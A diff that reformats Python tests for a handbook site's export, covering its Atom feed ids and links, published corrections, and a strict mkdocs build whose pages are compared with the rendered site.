-    whole = [entry.findtext(f"{ATOM}title") for entry in entries if entry.find(f"{ATOM}category").get("term") in ("draft", "released")]
+    whole = [
+        entry.findtext(f"{ATOM}title")
+        for entry in entries
+        if entry.find(f"{ATOM}category").get("term") in ("draft", "released")
+    ]
     assert [re.search(r"\d+\.\d+", title)[0] for title in whole] == [site.iteration.version for site in reversed(sites)]
 
 
 def test_the_feeds_links_lead_to_pages_of_the_site(sites):
-    tree = lxml.etree.fromstring(export_root([Site(site.library, site.iteration, Project()) for site in sites])["feed.xml"].encode())
+    tree = lxml.etree.fromstring(
+        export_root([Site(site.library, site.iteration, Project()) for site in sites])["feed.xml"].encode()
+    )
     for link in tree.iterfind(f"{ATOM}entry/{ATOM}link"):
         path, _, anchor = link.get("href").partition("#")
         page = SITE / path / "index.html"
@@ -662,13 +947,21 @@ def test_the_feeds_links_lead_to_pages_of_the_site(sites):
 
 def test_moving_the_site_announces_nothing_anew(sites):
     def entries(project: Project) -> list[tuple[str, str]]:
-        tree = lxml.etree.fromstring(export_root([Site(site.library, site.iteration, project) for site in sites])["feed.xml"].encode())
+        tree = lxml.etree.fromstring(
+            export_root([Site(site.library, site.iteration, project) for site in sites])["feed.xml"].encode()
+        )
         return [(entry.findtext(f"{ATOM}id"), entry.findtext(f"{ATOM}updated")) for entry in tree.iter(f"{ATOM}entry")]
 
     assert entries(Project()) == entries(Project("", "https://example.org/guide/"))
-    moved = lxml.etree.fromstring(export_root([Site(site.library, site.iteration, Project("", "https://example.org/guide/")) for site in sites])["feed.xml"].encode())
+    moved = lxml.etree.fromstring(
+        export_root([Site(site.library, site.iteration, Project("", "https://example.org/guide/")) for site in sites])[
+            "feed.xml"
+        ].encode()
+    )
     assert moved.xpath("string(*[local-name()='link'][@rel='self']/@href)") == "https://example.org/guide/feed.xml"
-    assert moved.findtext(f"{ATOM}id") == "urn:uuid:3d75c4c1-7fef-531a-a270-b1482b380f04", "ids are for life: readers' programs know the feed by this one"
+    assert moved.findtext(f"{ATOM}id") == "urn:uuid:3d75c4c1-7fef-531a-a270-b1482b380f04", (
+        "ids are for life: readers' programs know the feed by this one"
+    )
 
 
 def test_a_draft_keeps_its_ids_when_it_is_released(scratch):
@@ -685,13 +978,28 @@ def test_a_draft_keeps_its_ids_when_it_is_released(scratch):
 
 
 def test_a_correction_is_announced_and_exported(scratch):
-    scratch.write("data/errata/a-figure.yml", {"id": "a-figure", "iteration": "0.1", "element": "shape-the-approach", "says": "x", "should_say": "y", "why": "Because <z>.",
-                                               "date": dt.date(2027, 5, 6)})
+    scratch.write(
+        "data/errata/a-figure.yml",
+        {
+            "id": "a-figure",
+            "iteration": "0.1",
+            "element": "shape-the-approach",
+            "says": "x",
+            "should_say": "y",
+            "why": "Because <z>.",
+            "date": dt.date(2027, 5, 6),
+        },
+    )
     sites = sites_of(scratch.root)
     tree = lxml.etree.fromstring(export_root(sites)["feed.xml"].encode())
     entry = tree.find(f"{ATOM}entry")
-    assert entry.findtext(f"{ATOM}title") == "Iteration 0.1, correction: shape the approach" and entry.find(f"{ATOM}link").get("href") == "0.1/steps/shape-the-approach/"
-    assert entry.findtext(f"{ATOM}updated") == tree.findtext(f"{ATOM}updated") == "2027-05-06T00:00:00Z" and "Because <z>." in "".join(entry.itertext())
+    assert (
+        entry.findtext(f"{ATOM}title") == "Iteration 0.1, correction: shape the approach"
+        and entry.find(f"{ATOM}link").get("href") == "0.1/steps/shape-the-approach/"
+    )
+    assert entry.findtext(f"{ATOM}updated") == tree.findtext(
+        f"{ATOM}updated"
+    ) == "2027-05-06T00:00:00Z" and "Because <z>." in "".join(entry.itertext())
     counts = [len(json.loads(export_version(site)["data/handbook.json"])["errata"]) for site in sites]
     assert counts == [1, 0]
 
@@ -709,8 +1017,23 @@ def plainly_built(request, sites, tmp_path_factory) -> tuple[Site, dict[str, str
         path = folder / "source" / name
         path.parent.mkdir(parents=True, exist_ok=True)
         path.write_text(text, "utf-8")
-    done = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "--config-file", str(folder / "source" / "mkdocs.yml"), "--site-dir", str(folder / "built")],
-                          cwd=folder, capture_output=True, text=True, env={key: value for key, value in os.environ.items() if not key.startswith("HANDBOOK_")})
+    done = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "mkdocs",
+            "build",
+            "--strict",
+            "--config-file",
+            str(folder / "source" / "mkdocs.yml"),
+            "--site-dir",
+            str(folder / "built"),
+        ],
+        cwd=folder,
+        capture_output=True,
+        text=True,
+        env={key: value for key, value in os.environ.items() if not key.startswith("HANDBOOK_")},
+    )
     assert done.returncode == 0 and "WARNING" not in done.stderr, done.stdout + done.stderr
     return site, files, folder / "built"
 
@@ -719,7 +1042,9 @@ def test_the_plain_configuration_asks_for_nothing_of_ours(plainly_built):
     config = yaml.safe_load(plainly_built[1]["mkdocs.yml"])
     assert not {"plugins", "hooks", "theme", "extra_css", "extra_javascript"} & set(config)
     ours = yaml.safe_load(re.sub(r"!\S+", "", (ROOT / "mkdocs.yml").read_text("utf-8")))
-    assert config["markdown_extensions"] == [each for each in ours["markdown_extensions"] if not str(each).startswith("macros.")]
+    assert config["markdown_extensions"] == [
+        each for each in ours["markdown_extensions"] if not str(each).startswith("macros.")
+    ]
 
 
 def test_every_page_of_the_version_is_exported(plainly_built):
@@ -737,7 +1062,9 @@ def test_what_is_exported_is_what_is_shown(plainly_built):
     site, files, built = plainly_built
 
     def words(tree: Any) -> str:
-        for drawn in tree.xpath("//figure[starts-with(@class, 'picture')] | //svg[@class='stop'] | //form[@class='filter']"):
+        for drawn in tree.xpath(
+            "//figure[starts-with(@class, 'picture')] | //svg[@class='stop'] | //form[@class='filter']"
+        ):
             drawn.drop_tree()  # left out of the export: what they say stands in words beside them
         return re.sub(r"\s+", "", tree.text_content())
 
@@ -745,7 +1072,9 @@ def test_what_is_exported_is_what_is_shown(plainly_built):
         if not name.endswith(".md"):
             continue
         where = re.sub(r"(^|/)index\.md$|\.md$", "", name.removeprefix("docs/")) + "/"
-        shown = lxml.html.parse(str(SITE / site.folder / where.lstrip("/") / "index.html")).getroot().xpath("//article")[0]
+        shown = (
+            lxml.html.parse(str(SITE / site.folder / where.lstrip("/") / "index.html")).getroot().xpath("//article")[0]
+        )
         made = lxml.html.parse(str(built / where.lstrip("/") / "index.html")).getroot().xpath("//*[@role='main']")[0]
         assert words(made) == words(shown), name
 
@@ -769,7 +1098,10 @@ def test_no_link_of_the_plain_build_is_dead(plainly_built):
 def test_links_that_leave_the_version_lead_to_the_site_where_it_is_known(sites):
     known = Site(sites[0].library, sites[0].iteration, Project("", "https://example.org/guide/"))
     files = export_markdown(known)
-    assert '<a href="https://example.org/guide/0.1/data/handbook.json">handbook.json</a>' in files["docs/about/open-data.md"]
+    assert (
+        '<a href="https://example.org/guide/0.1/data/handbook.json">handbook.json</a>'
+        in files["docs/about/open-data.md"]
+    )
     assert '<a href="https://example.org/guide/feed.xml">feed.xml</a>' in files["docs/about/open-data.md"]
     elsewhere = [text for text in files.values() if "https://example.org/guide/0.2/" in text]
     assert elsewhere and not any(re.search(r'<a href="(?:\.\./)+\d', text) for text in files.values())
